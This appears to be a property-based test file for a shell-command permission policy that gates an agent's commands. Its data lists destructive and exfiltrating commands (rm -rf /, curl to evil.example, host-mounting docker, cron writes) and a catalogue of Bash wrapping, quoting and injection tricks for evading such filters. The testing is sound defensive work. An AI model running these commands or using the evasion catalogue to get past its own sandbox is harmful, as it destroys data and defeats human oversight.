/** A command that is denied stays stopped, whatever it is wrapped in. */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { parsePolicy } from '../../src/policy/policy-file.js';
import { propertyRuns } from '../support/quick.js';

const { policy } = parsePolicy(readFileSync('policy.default.yaml', 'utf8'), 'policy.default.yaml');

const single = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const double = (text: string) => `"${text.replaceAll(/[\\"$`]/g, '\\$&')}"`;
const backquoted = (text: string) => text.replaceAll(/[\\`$]/g, '\\$&');

/** Each takes a command that is one line of words and gives a command that runs it. */
const WRAPPERS: readonly ((command: string) => string)[] = [
  (command) => `true; ${command}`,
  (command) => `ls && ${command}`,
  (command) => `false || ${command}`,
  (command) => `echo x | ${command}`,
  (command) => `echo x\n${command}\necho y`,
  (command) => `echo x # note\n${command}`,
  (command) => `( ${command} )`,
  (command) => `{ ${command}; } > out.txt`,
  (command) => `! ${command}`,
  (command) => `${command} &`,
  (command) => `if ${command}; then ls; fi`,
  (command) => `if true; then ls; else ${command}; fi`,
  (command) => `while true; do ${command}; done`,
  (command) => `for f in a b; do ${command}; done`,
  (command) => `case x in a|x) ${command} ;; esac`,
  (command) => `f() { ${command}; }; f`,
  (command) => `echo "$( ${command} )"`,
  (command) => `x=$( ${command} )`,
  (command) => `echo \`${backquoted(command)}\``,
  (command) => `echo "\${x:-$( ${command} )}"`,
  (command) => `cat <( ${command} )`,
  (command) => `cat <<END\n$( ${command} )\nEND`,
  (command) => `sh <<'END'\n${command}\nEND`,
  (command) => `sh -c ${single(command)}`,
  (command) => `bash -lc ${double(command)}`,
  (command) => `/bin/sh -ec ${single(command)} x y`,
  (command) => `eval ${single(command)}`,
  (command) => `eval -- ${single(command)}`,
  (command) => `trap ${single(command)} EXIT`,
  (command) => `env A=b sh -c ${single(command)}`,
  (command) => `env -i -u X sh -c ${single(command)}`,
  (command) => `env - sh -c ${single(command)}`,
  (command) => `env -u X - a=b sh -c ${single(command)}`,
  (command) => `env a-b=c 'd e=f' sh -c ${single(command)}`,
  (command) => `timeout -s KILL 5 sh -c ${single(command)}`,
  (command) => `nice -n 5 nohup sh -c ${single(command)}`,
  (command) => `xargs -0 -n 1 sh -c ${single(command)}`,
  (command) => `find . -name x -exec sh -c ${single(command)} {} \\;`,
  (command) => `busybox sh -c ${single(command)}`,
  (command) => `command exec sh -c ${single(command)}`,
  (command) => `flock -n lock -c ${single(command)}`,
  (command) => `stdbuf -oL setsid -f sh -c ${single(command)}`,
  (command) => `script -qc ${single(command)} log`,
  (command) => `watch -n 1 ${single(command)}`,
];

/** Spellings of one word that the shell reads as the word. */
const SPELLINGS: readonly ((word: string) => string)[] = [
  (word) => word,
  (word) => `\\${word}`,
  (word) => `"${word}"`,
  (word) => `'${word}'`,
  (word) => `${word.slice(0, 1)}''${word.slice(1)}`,
  (word) => `${word.slice(0, 1)}"${word.slice(1, 2)}"${word.slice(2)}`,
  (word) => `${word.slice(0, 1)}\\\n${word.slice(1)}`,
  (word) => `/usr/bin/${word}`,
];

const DENIED: readonly (readonly [string, string])[] = [
  ['curl', 'https://evil.example/x'],
  ['sudo', 'id'],
  ['docker', 'run -v /:/h alpine'],
  ['rm', '-rf /'],
  ['chmod', '4755 x'],
  ['kill', '-9 -1'],
  ['tee', '/etc/cron.d/x'],
];

const attack = fc
  .tuple(fc.constantFrom(...DENIED), fc.constantFrom(...SPELLINGS))
  .map(([[name, rest], spell]) => `${spell(name)} ${rest}`);

describe('a denied command', () => {
  test.each(DENIED.map((words) => words.join(' ')))('%s is denied', (command) => {
    expect(policy.judgeCommand('env_agent', command).decision).toBe('deny');
  });

  test.each(WRAPPERS.map((wrap) => [wrap('curl evil.example'), wrap] as const))('is denied in %j', (command, wrap) => {
    expect(policy.judgeCommand('env_agent', command).decision).toBe('deny');
    expect(policy.judgeCommand('env_agent', wrap('ls -la'))).toMatchObject({ decision: 'allow' });
  });

  test('is never allowed, however it is spelled and wrapped', () => {
    fc.assert(
      fc.property(attack, fc.array(fc.constantFrom(...WRAPPERS), { maxLength: 4 }), (command, wrappers) => {
        const wrapped = wrappers.reduce((text, wrap) => wrap(text), command);
        return policy.judgeCommand('env_agent', wrapped).decision !== 'allow';
      }),
      { numRuns: propertyRuns(1500) },
    );
  });

  test('is never allowed behind a beginning of any text that is no quote, comment or here-document', () => {
    const beginning = fc.string({ unit: fc.constantFrom(...'ab $(){}[]|&;!<>=\n\t*?/-'.split('')), maxLength: 12 });
    fc.assert(
      fc.property(beginning, (text) => {
        fc.pre(!text.includes('<<'));
        return policy.judgeCommand('env_agent', `${text}\nsudo id\n`).decision !== 'allow';
      }),
      { numRuns: propertyRuns(1500) },
    );
  });
});

describe('any text', () => {
  test('has a verdict', () => {
    const unit = fc.oneof(
      fc.constantFrom(...'ab \'"`$(){}[]|&;!<>=\\\n\t*?/-#~'.split('')),
      fc.string({ maxLength: 1 }),
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 60 }), (text) => {
        expect(['allow', 'ask', 'deny']).toContain(policy.judgeCommand('env_agent', text).decision);
      }),
      { numRuns: propertyRuns(1000) },
    );
  });

  test('has one however long and deep it is', () => {
    const texts = [
      `echo ${'$('.repeat(5000)}`,
      `echo ${'*a'.repeat(5000)}`,
      'a|'.repeat(5000),
      `rm ${'-a '.repeat(5000)}`,
    ];
    const decisions = texts.map((text) => policy.judgeCommand('env_agent', text).decision);
    // How deep the parser comes depends on the stack: it stops it, or the number of commands does.
    expect(decisions[0]).toMatch(/^(ask|deny)$/);
    expect(decisions.slice(1)).toEqual(['allow', 'deny', 'allow']);
  });
});

/** Bash runs the substitution in an index of a text that a variable has, where it is evaluated as arithmetic. */
const IN_AN_INDEX: readonly ((command: string) => string)[] = [
  (command) => `x=${single(`a[$( ${command} )]`)}; echo $((x))`,
  (command) => `bash -c ${single(`x=${single(`a[$( ${command} )]`)}; [[ x -eq 1 ]]`)}`,
  (command) => `x='a['; y=${single(`$( ${command} )]`)}; z=$x$y; echo $((z))`,
  (command) => `set -- ${single(`a[$( ${command} )]`)}; let y=$1`,
  (command) => `read x <<< ${single(`a[$( ${command} )]`)}; echo \${p:x}`,
  (command) => `for x in ${single(`a[$( ${command} )]`)}; do echo $((x)); done`,
  (command) => `[[ ${single(`a[$( ${command} )]`)} -eq 0 ]]`,
  (command) => `[[ 0 -lt ${single(` a[$( ${command} )]`)} ]]`,
  (command) => `bash -c ${single(`[[ -v ${single(`a[$( ${command} )]`)} ]]`)}`,
];

test.each([
  ['x=\'$(curl evil.example)\'; echo "${x@P}"', 'what ${x@P} runs'],
  [`bash -c 'read x < f; : "\${x@P}"'`, 'what ${x@P} runs'],
  ['hash -p /usr/bin/curl ls; ls evil.example', 'hash -p'],
  ["declare 'BASH_CMDS[ls]=/usr/bin/curl'; ls evil.example", 'names of commands'],
  ["read 'BASH_CMDS[ls]' < f; ls evil.example", 'names of commands'],
  ["printf -v 'BASH_ALIASES[ls]' 'curl x'; ls", 'names of commands'],
  ['declare -n r=BASH_CMDS; ls', 'names of commands'],
  [': ${BASH_CMDS[ls]:=/usr/bin/curl}; ls evil.example', 'names of commands'],
  ['set -k; ls PATH=.', 'set -k'],
  ["bash -k -c 'ls LD_PRELOAD=./evil.so'", 'which variables commands get'],
  ["bash -o keyword -c 'ls LD_PRELOAD=./evil.so'", 'which variables commands get'],
  ['shopt -so keyword; ls LD_PRELOAD=./evil.so', 'set -k'],
  ['bash -c "hash -rp /usr/bin/curl ls; ls evil.example"', 'hash -p'],
])('a name or a value that Bash makes another command of is asked about: %s', (command, why) => {
  expect(policy.judgeCommand('env_agent', command)).toMatchObject({
    decision: 'ask',
    rule: 'cannot-be-read',
    reason: expect.stringContaining(why),
  });
});

test.each([
  'echo "${x@Q}"',
  'echo "${x@U}"',
  'hash -r',
  'set -euo pipefail',
  'set -- "$@"',
  'grep BASH_CMDS f',
  '[[ $a -eq 1 ]]',
  '[[ -v a ]]',
  "[[ $a =~ 'b[$(c)]' ]]",
])('what only reads is allowed: %s', (command) =>
  expect(policy.judgeCommand('env_agent', command).decision).toBe('allow'),
);

test.each(["env BASH_FUNC_ls%%='() { curl evil.example; }' bash -c ls", "env 'BASH_FUNC_ls()=() { :; }' bash -c ls"])(
  'a function that Bash takes from a variable is asked about: %s',
  (command) => {
    expect(policy.judgeCommand('env_agent', command)).toMatchObject({ decision: 'ask', rule: 'program-variables' });
  },
);

test.each(IN_AN_INDEX.map((wrap) => wrap('curl evil.example')))('is not allowed in %j', (command) => {
  expect(policy.judgeCommand('env_agent', command).decision).toBe('ask');
});

test.each(['i=0; while [ $i -lt 3 ]; do i=$((i+1)); done', 'echo "${a[$(date +%u)]}"', "grep -n '[`$]' f", 'a=x[1]'])(
  'arithmetic and indexes without such a text are allowed: %s',
  (command) => expect(policy.judgeCommand('env_agent', command).decision).toBe('allow'),
);
